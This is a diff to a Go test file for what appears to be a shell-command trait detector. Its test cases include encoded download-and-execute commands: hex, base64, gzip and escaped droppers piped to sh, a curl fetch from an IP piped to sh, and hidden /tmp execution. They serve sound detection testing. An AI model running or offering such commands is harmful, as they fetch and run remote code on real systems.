@@ -138,6 +138,7 @@ func TestTraits(t *testing.T) {
 		{"echo " + hex.EncodeToString([]byte(dropper)) + " | xxd -r -p | sh", "decode_exec,encoded,fetch,pipe_to_shell"},
 		{"echo -e '" + escapes("curl -s http://203.0.113.77/i|sh") + "' | sh", "decode_exec,encoded,fetch,pipe_to_shell"},
 		{"$'" + escapes("/tmp/.x/a") + "'", "hidden_exec,temp_exec"},
+		{"echo " + encode("# 下载并运行\n"+dropper) + " | base64 -d | sh", "decode_exec,encoded,fetch,pipe_to_shell"},
 		{"openssl enc -d -aes-256-cbc -in /opt/x -k y | sh", "decode_exec"},
 		{"echo " + zipped(dropper) + " | base64 -d | gunzip | bash", "decode_exec,encoded,fetch,pipe_to_shell"},
 		{"base64 -d /etc/key.b64 > /run/key", ""},
